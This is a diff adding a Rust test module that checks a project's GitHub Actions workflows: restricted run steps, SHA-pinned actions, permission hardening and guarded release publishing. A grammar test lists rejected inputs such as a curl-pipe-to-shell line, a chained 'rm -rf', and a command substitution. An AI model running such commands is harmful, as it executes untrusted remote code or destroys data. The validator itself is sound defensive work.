@@ -1,0 +1,528 @@
+//! The workflows' invariants as plain tests (rust-analyzer's "tidy"): every `run:` step is one
+//! `cargo xtask …` or `make …` call that the CLI or the Makefile knows, every action is pinned
+//! to a commit with its version beside it, the release workflow is hardened as ARCHITECTURE.md
+//! says, and zizmor and check-jsonschema have nothing to report.
+//!
+//! YAML is read by the project environment's Python (ruamel.yaml, which check-jsonschema brings)
+//! and checked here as JSON, so the xtask needs no YAML crate. Without `.venv` these tests are
+//! skipped with the reason printed, except under `CI=true`, where that is a failure.
+
+use std::collections::BTreeMap;
+use std::path::{Path, PathBuf};
+use std::process::Command;
+use std::sync::OnceLock;
+
+use clap::Parser;
+use serde_json::Value;
+
+use crate::{flags::Cli, project};
+
+/// One workflow file: its name, its text (for comments, which JSON loses) and its content.
+struct Workflow {
+    name: String,
+    text: String,
+    doc: Value,
+}
+
+/// What a `run:` step may be.
+#[derive(Debug, PartialEq)]
+enum Call {
+    /// `cargo xtask ARGS…`
+    Xtask(Vec<String>),
+    /// `make ARGS…`
+    Make(Vec<String>),
+}
+
+/// A parsed `run:` step: the call, and the environment variables it reads (`"$NAME"`).
+#[derive(Debug, PartialEq)]
+struct RunStep {
+    call: Call,
+    env: Vec<String>,
+}
+
+#[test]
+fn run_steps_only_call_the_xtask_or_make() {
+    let Some(workflows) = workflows() else { return };
+    let problems: Vec<String> = run_steps(workflows)
+        .filter_map(|(at, _, script)| parse_run(script).err().map(|e| format!("{at}: {e}")))
+        .collect();
+    assert_none(&problems, "run: steps that do more than call `cargo xtask` or `make`");
+}
+
+#[test]
+fn the_xtask_knows_every_subcommand_the_workflows_call() {
+    let Some(workflows) = workflows() else { return };
+    let mut problems = Vec::new();
+    for (at, _, script) in run_steps(workflows) {
+        let Ok(RunStep { call: Call::Xtask(args), .. }) = parse_run(script) else { continue };
+        let argv = std::iter::once("cargo xtask".to_owned()).chain(args.iter().cloned());
+        if let Err(err) = Cli::try_parse_from(argv) {
+            problems.push(format!("{at}: `cargo xtask {}`: {}", args.join(" "), err.kind()));
+        }
+    }
+    assert_none(&problems, "xtask calls the CLI rejects");
+}
+
+#[test]
+fn the_makefile_has_every_target_the_workflows_call() {
+    let Some(workflows) = workflows() else { return };
+    let makefile = std::fs::read_to_string(project::root().join("Makefile")).unwrap();
+    let targets = make_targets(&makefile);
+    let mut problems = Vec::new();
+    for (at, _, script) in run_steps(workflows) {
+        let Ok(RunStep { call: Call::Make(args), .. }) = parse_run(script) else { continue };
+        for target in args.iter().filter(|a| !a.contains('=')) {
+            if !targets.contains(target) {
+                problems.push(format!("{at}: `make {target}`: no such target in the Makefile"));
+            }
+        }
+    }
+    assert_none(&problems, "make targets the Makefile does not define");
+}
+
+#[test]
+fn run_steps_read_only_variables_their_step_defines() {
+    let Some(workflows) = workflows() else { return };
+    let mut problems = Vec::new();
+    for (at, (wf, job, step), script) in run_steps(workflows) {
+        let Ok(run) = parse_run(script) else { continue };
+        for var in run.env {
+            let defined = [&step["env"], &job["env"], &wf.doc["env"]]
+                .iter()
+                .any(|env| env.get(&var).is_some());
+            if !defined && !RUNNER_VARIABLES.contains(&var.as_str()) {
+                problems.push(format!("{at}: reads ${var}, which no env: block defines"));
+            }
+        }
+    }
+    assert_none(&problems, "run: steps reading undefined variables");
+}
+
+#[test]
+fn actions_are_pinned_to_a_commit_with_its_version() {
+    let Some(workflows) = workflows() else { return };
+    let mut problems = Vec::new();
+    let mut pins: BTreeMap<String, (String, String, String)> = BTreeMap::new();
+    for wf in workflows {
+        let mut used = 0;
+        for (job_id, job) in jobs(wf) {
+            let uses = std::iter::once(&job["uses"]).chain(steps(job).map(|s| &s["uses"]));
+            for action in uses.filter_map(Value::as_str) {
+                used += 1;
+                if pin_of(action).is_none() {
+                    problems.push(format!(
+                        "{} job {job_id}: `{action}` is not pinned to a full commit SHA",
+                        wf.name
+                    ));
+                }
+            }
+        }
+        let lines: Vec<&str> = wf.text.lines().filter(|l| is_uses_line(l)).collect();
+        if lines.len() != used {
+            problems.push(format!(
+                "{}: {used} actions used but {} `uses:` lines found: write each as \
+                 `uses: owner/repo@<sha> # vX.Y.Z` on its own line",
+                wf.name,
+                lines.len()
+            ));
+        }
+        for line in lines {
+            let Some((action, version)) = uses_line(line) else {
+                problems.push(format!(
+                    "{}: `{}`: expected `uses: owner/repo@<40-hex sha> # vX.Y.Z`",
+                    wf.name,
+                    line.trim()
+                ));
+                continue;
+            };
+            let Some((repo, sha)) = pin_of(action) else { continue };
+            let pin = (sha.to_owned(), version.to_owned(), wf.name.clone());
+            match pins.get(repo) {
+                Some((s, v, first)) if (s, v) != (&pin.0, &pin.1) => problems.push(format!(
+                    "{}: {repo}@{sha} # {version}, but {first} pins {repo}@{s} # {v}: use one \
+                     pin per action",
+                    wf.name
+                )),
+                Some(_) => {}
+                None => {
+                    pins.insert(repo.to_owned(), pin);
+                }
+            }
+        }
+    }
+    assert_none(&problems, "actions not pinned as `owner/repo@<sha> # vX.Y.Z`");
+}
+
+#[test]
+fn workflows_are_hardened() {
+    let Some(workflows) = workflows() else { return };
+    let mut problems = Vec::new();
+    for wf in workflows {
+        let name = &wf.name;
+        if wf.doc["permissions"] != Value::Object(Default::default()) {
+            problems.push(format!("{name}: expected top-level `permissions: {{}}`"));
+        }
+        if wf.doc["defaults"]["run"]["shell"] != "bash" {
+            problems.push(format!(
+                "{name}: expected `defaults: run: shell: bash` (Windows runners default to pwsh, \
+                 where \"$VAR\" is not the environment variable)"
+            ));
+        }
+        if wf.doc["concurrency"]["group"].as_str().is_none() {
+            problems.push(format!("{name}: expected a `concurrency` group"));
+        }
+        if wf.text.contains("secrets.") {
+            problems.push(format!(
+                "{name}: reads a secret: expected trusted publishing (OIDC) and github.token only"
+            ));
+        }
+        for (job_id, job) in jobs(wf) {
+            if job["timeout-minutes"].as_u64().is_none_or(|m| m == 0) {
+                problems.push(format!("{name} job {job_id}: expected `timeout-minutes`"));
+            }
+            if !job["permissions"].is_object() {
+                problems.push(format!(
+                    "{name} job {job_id}: expected its own `permissions` (the workflow grants none)"
+                ));
+            }
+            for step in steps(job) {
+                let is_checkout =
+                    step["uses"].as_str().is_some_and(|u| u.starts_with("actions/checkout@"));
+                if is_checkout && step["with"]["persist-credentials"] != false {
+                    problems.push(format!(
+                        "{name} job {job_id}: checkout without `persist-credentials: false`"
+                    ));
+                }
+            }
+        }
+    }
+    assert_none(&problems, "workflows missing their hardening");
+}
+
+#[test]
+fn the_release_never_caches_and_is_never_cancelled() {
+    let Some(workflows) = workflows() else { return };
+    let release = workflow(workflows, "release.yml");
+    let mut problems = Vec::new();
+    if release.doc["concurrency"]["cancel-in-progress"] != false {
+        problems.push("expected `concurrency: cancel-in-progress: false`".to_owned());
+    }
+    for (job_id, job) in jobs(release) {
+        for step in steps(job) {
+            let action = step["uses"].as_str().unwrap_or_default();
+            if action.contains("cache") {
+                problems.push(format!("job {job_id}: uses {action}"));
+            }
+            let inputs = step["with"].as_object().into_iter().flatten();
+            for (key, value) in inputs.filter(|(k, _)| k.contains("cache")) {
+                if !matches!(value, Value::Bool(false)) && value != "false" && value != "" {
+                    problems.push(format!("job {job_id}: {action} with `{key}: {value}`"));
+                }
+            }
+        }
+    }
+    assert_none(&problems, "release.yml caches or can be cancelled");
+}
+
+#[test]
+fn the_release_matrix_comes_from_the_plan() {
+    let Some(workflows) = workflows() else { return };
+    let release = workflow(workflows, "release.yml");
+    let mut problems = Vec::new();
+    for (job_id, job) in jobs(release) {
+        let matrix = &job["strategy"]["matrix"];
+        if !matrix.is_null()
+            && !matrix.as_str().is_some_and(|m| m.contains("fromJSON(needs.plan.outputs.matrix)"))
+        {
+            problems.push(format!(
+                "job {job_id}: expected `matrix: ${{{{ fromJSON(needs.plan.outputs.matrix) }}}}`, \
+                 found {matrix}"
+            ));
+        }
+    }
+    let plan_step = steps(&release.doc["jobs"]["plan"])
+        .any(|s| s["run"].as_str().is_some_and(|r| r.contains("cargo xtask plan --format github")));
+    if !plan_step {
+        problems.push("job plan: expected `cargo xtask plan --format github`".to_owned());
+    }
+    assert_none(&problems, "release.yml matrix not from `cargo xtask plan`");
+}
+
+#[test]
+fn publishing_is_live_only_reviewed_and_never_private() {
+    let Some(workflows) = workflows() else { return };
+    let mut problems = Vec::new();
+    let mut publishers = 0;
+    for (at, (wf, job, _), script) in run_steps(workflows) {
+        let Ok(RunStep { call: Call::Xtask(args), .. }) = parse_run(script) else { continue };
+        if !args.iter().any(|a| a == "--live") {
+            continue;
+        }
+        publishers += 1;
+        let condition = job["if"].as_str().unwrap_or_default();
+        let environment = job["environment"].as_str().or(job["environment"]["name"].as_str());
+        for (ok, expected) in [
+            (wf.name == "release.yml", "to be in release.yml"),
+            (condition.contains("needs.plan.outputs.live == 'true'"), "`if:` on the live flag"),
+            (condition.contains("github.event.repository.private == false"), "`if:` on public"),
+            (environment == Some("release"), "`environment: release`"),
+            (job["permissions"]["id-token"] == "write", "`permissions: id-token: write`"),
+        ] {
+            if !ok {
+                problems.push(format!("{at}: a live call; expected {expected}"));
+            }
+        }
+    }
+    if publishers == 0 {
+        problems.push("release.yml: no step publishes with `--live`".to_owned());
+    }
+    assert_none(&problems, "live publishing without its guards");
+}
+
+#[test]
+fn zizmor_reports_nothing() {
+    let Some(zizmor) = venv_bin("zizmor") else { return };
+    let root = project::root();
+    let out = Command::new(zizmor)
+        .args(["--offline", "--strict-collection", super::DIR])
+        .current_dir(&root)
+        .output()
+        .unwrap();
+    assert!(
+        out.status.success(),
+        "zizmor found problems in {} (fix them; see https://docs.zizmor.sh/audits/):\n{}{}",
+        super::DIR,
+        String::from_utf8_lossy(&out.stdout),
+        String::from_utf8_lossy(&out.stderr)
+    );
+}
+
+#[test]
+fn workflows_match_the_github_schema() {
+    let Some(check) = venv_bin("check-jsonschema") else { return };
+    let root = project::root();
+    let out = Command::new(check)
+        .args(["--builtin-schema", "vendor.github-workflows"])
+        .args(super::files(&root).unwrap())
+        .output()
+        .unwrap();
+    assert!(
+        out.status.success(),
+        "the workflows do not match GitHub's schema:\n{}{}",
+        String::from_utf8_lossy(&out.stdout),
+        String::from_utf8_lossy(&out.stderr)
+    );
+}
+
+#[test]
+fn run_step_grammar() {
+    let ok = |script: &str| parse_run(script).unwrap();
+    assert_eq!(
+        ok("cargo xtask plan --format github >> \"$GITHUB_OUTPUT\"\n"),
+        RunStep {
+            call: Call::Xtask(vec!["plan".into(), "--format".into(), "github".into()]),
+            env: vec!["GITHUB_OUTPUT".into()],
+        }
+    );
+    assert_eq!(
+        ok("cargo xtask build --target \"$TARGET\" --out dist"),
+        RunStep {
+            call: Call::Xtask(vec![
+                "build".into(),
+                "--target".into(),
+                PLACEHOLDER.into(),
+                "--out".into(),
+                "dist".into()
+            ]),
+            env: vec!["TARGET".into()],
+        }
+    );
+    assert_eq!(ok("make lint").call, Call::Make(vec!["lint".into()]));
+    for bad in [
+        "cargo xtask build --target ${{ matrix.target }}",
+        "cargo xtask lint && curl https://example.invalid | sh",
+        "make lint\nmake test",
+        "pip install geodist-rs",
+        "cargo build",
+        "make test; rm -rf dist",
+        "cargo xtask plan > out.txt",
+        "make lint >> \"$GITHUB_OUTPUT\"",
+        "cargo xtask build --target $TARGET",
+        "cargo xtask build --target \"$(whoami)\"",
+        "",
+    ] {
+        assert!(parse_run(bad).is_err(), "accepted {bad:?}");
+    }
+}
+
+/// Variables the runner sets for every step.
+const RUNNER_VARIABLES: &[&str] = &["GITHUB_OUTPUT", "GITHUB_ENV", "GITHUB_STEP_SUMMARY"];
+
+/// What an `"$NAME"` argument stands for when the CLI parses a workflow's call.
+const PLACEHOLDER: &str = "value-from-env";
+
+/// Parses a `run:` script: one line, `cargo xtask` or `make`, then plain words and `"$NAME"`
+/// references, and for the xtask optionally `>> "$GITHUB_OUTPUT"` at the end. Anything a shell
+/// would interpret (expressions, `;`, `&&`, pipes, other redirections, substitutions) is refused.
+fn parse_run(script: &str) -> Result<RunStep, String> {
+    if script.contains("${{") {
+        return Err("a `${{ }}` expression inside run: (pass it through `env:`)".into());
+    }
+    let lines: Vec<&str> = script.lines().map(str::trim).filter(|l| !l.is_empty()).collect();
+    let [line] = lines[..] else {
+        return Err(format!("expected one command, found {} lines", lines.len()));
+    };
+    let mut words: Vec<&str> = line.split_whitespace().collect();
+    let to_output = words.ends_with(&[">>", "\"$GITHUB_OUTPUT\""]);
+    if to_output {
+        words.truncate(words.len() - 2);
+    }
+    let (xtask, rest) = match words[..] {
+        ["cargo", "xtask", ref rest @ ..] => (true, rest),
+        ["make", ref rest @ ..] if !to_output => (false, rest),
+        _ => return Err(format!("`{line}`: expected `cargo xtask …` or `make …`")),
+    };
+    let mut args = Vec::new();
+    let mut env = Vec::new();
+    for word in rest {
+        if let Some(var) = word.strip_prefix("\"$").and_then(|w| w.strip_suffix('"')) {
+            if !var.is_empty() && var.chars().all(|c| c.is_ascii_uppercase() || c == '_') {
+                env.push(var.to_owned());
+                args.push(PLACEHOLDER.to_owned());
+                continue;
+            }
+        }
+        let plain = word.chars().all(|c| c.is_ascii_alphanumeric() || "-_./:=,+@%".contains(c));
+        if !plain {
+            return Err(format!("`{line}`: `{word}` is neither a plain word nor \"$NAME\""));
+        }
+        args.push((*word).to_owned());
+    }
+    if to_output {
+        env.push("GITHUB_OUTPUT".to_owned());
+    }
+    let call = if xtask { Call::Xtask(args) } else { Call::Make(args) };
+    Ok(RunStep { call, env })
+}
+
+/// The targets a Makefile defines (`name:` at the start of a line).
+fn make_targets(makefile: &str) -> Vec<String> {
+    makefile
+        .lines()
+        .filter_map(|l| l.split_once(':').map(|(name, _)| name))
+        .filter(|n| !n.is_empty() && n.chars().all(|c| c.is_ascii_alphanumeric() || c == '-'))
+        .map(str::to_owned)
+        .collect()
+}
+
+/// `owner/repo[/path]@<40 hex>` split into the action and the SHA.
+fn pin_of(action: &str) -> Option<(&str, &str)> {
+    let (repo, sha) = action.split_once('@')?;
+    let hex =
+        sha.len() == 40 && sha.chars().all(|c| c.is_ascii_digit() || ('a'..='f').contains(&c));
+    (repo.split('/').count() >= 2 && hex).then_some((repo, sha))
+}
+
+fn is_uses_line(line: &str) -> bool {
+    let line = line.trim_start();
+    let line = line.strip_prefix("- ").unwrap_or(line);
+    line.starts_with("uses:")
+}
+
+/// `uses: ACTION # vX.Y.Z` split into the action and the version.
+fn uses_line(line: &str) -> Option<(&str, &str)> {
+    let line = line.trim_start();
+    let line = line.strip_prefix("- ").unwrap_or(line);
+    let (action, comment) = line.strip_prefix("uses:")?.split_once(" # ")?;
+    let version = comment.trim();
+    let numbers = version.strip_prefix('v')?;
+    let valid = numbers.split('.').all(|n| !n.is_empty() && n.chars().all(|c| c.is_ascii_digit()));
+    valid.then_some((action.trim(), version))
+}
+
+fn jobs(wf: &Workflow) -> impl Iterator<Item = (&String, &Value)> {
+    wf.doc["jobs"].as_object().into_iter().flatten()
+}
+
+fn steps(job: &Value) -> impl Iterator<Item = &Value> {
+    job["steps"].as_array().into_iter().flatten()
+}
+
+/// Every `run:` step: where it is (for messages), its workflow, job and step, and its script.
+fn run_steps(
+    workflows: &[Workflow],
+) -> impl Iterator<Item = (String, (&Workflow, &Value, &Value), &str)> {
+    workflows.iter().flat_map(|wf| {
+        jobs(wf).flat_map(move |(job_id, job)| {
+            steps(job).enumerate().filter_map(move |(i, step)| {
+                let script = step["run"].as_str()?;
+                let at = format!("{} job {job_id} step {}", wf.name, i + 1);
+                Some((at, (wf, job, step), script))
+            })
+        })
+    })
+}
+
+fn workflow<'a>(workflows: &'a [Workflow], name: &str) -> &'a Workflow {
+    workflows.iter().find(|w| w.name == name).unwrap_or_else(|| panic!("no {name}"))
+}
+
+#[track_caller]
+fn assert_none(problems: &[String], what: &str) {
+    assert!(problems.is_empty(), "{what}:\n  {}", problems.join("\n  "));
+}
+
+/// Every workflow, read once per test run.
+fn workflows() -> Option<&'static [Workflow]> {
+    static WORKFLOWS: OnceLock<Option<Vec<Workflow>>> = OnceLock::new();
+    WORKFLOWS.get_or_init(|| venv_bin("python").map(|python| load(&python))).as_deref()
+}
+
+const TO_JSON: &str = "\
+import json, sys
+from ruamel.yaml import YAML
+yaml = YAML(typ='safe', pure=True)
+print(json.dumps({path: yaml.load(open(path, encoding='utf-8')) for path in sys.argv[1:]}))
+";
+
+fn load(python: &Path) -> Vec<Workflow> {
+    let files = super::files(&project::root()).unwrap();
+    assert!(!files.is_empty(), "no workflows in {}", super::DIR);
+    let out = Command::new(python).args(["-c", TO_JSON]).args(&files).output().unwrap();
+    assert!(
+        out.status.success(),
+        "could not read the workflows as YAML:\n{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let mut docs: BTreeMap<String, Value> = serde_json::from_slice(&out.stdout).unwrap();
+    files
+        .iter()
+        .map(|path| Workflow {
+            name: path.file_name().unwrap().to_string_lossy().into_owned(),
+            text: std::fs::read_to_string(path).unwrap(),
+            doc: docs.remove(&*path.to_string_lossy()).unwrap(),
+        })
+        .collect()
+}
+
+/// A tool from the project environment, or `None` (with the reason printed) when `.venv` lacks
+/// it. Under `CI=true` a missing tool is a failure, never a skip (DESIGN §2).
+fn venv_bin(name: &str) -> Option<PathBuf> {
+    let venv = project::root().join(".venv");
+    let path = if cfg!(windows) {
+        venv.join("Scripts").join(format!("{name}.exe"))
+    } else {
+        venv.join("bin").join(name)
+    };
+    if path.exists() {
+        return Some(path);
+    }
+    let message = format!(
+        "workflow checks need {}; `cargo xtask test` (or `cargo xtask lint`) creates .venv",
+        path.display()
+    );
+    let ci = std::env::var("CI").is_ok_and(|v| !v.is_empty() && v != "false" && v != "0");
+    assert!(!ci, "{message}");
+    eprintln!("skipped: {message}");
+    None
+}
